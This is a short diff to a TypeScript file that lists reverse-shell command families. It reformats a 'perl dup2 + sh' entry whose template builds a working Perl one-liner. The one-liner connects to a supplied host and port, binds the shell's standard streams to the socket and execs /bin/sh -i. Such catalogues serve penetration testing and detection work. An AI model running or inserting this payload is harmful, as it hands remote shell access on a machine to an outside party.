@@ -25,8 +25,7 @@ export const FAMILIES: readonly Family[] = [
     name: 'perl dup2 + sh', slug: 'perl',
     command: (h, p) => [
       'perl', '-e',
-      `use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(${p},inet_aton("${h}")));` +
-        'open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");',
+      `use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(${p},inet_aton("${h}")));open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");`,
     ],
   },
 ];
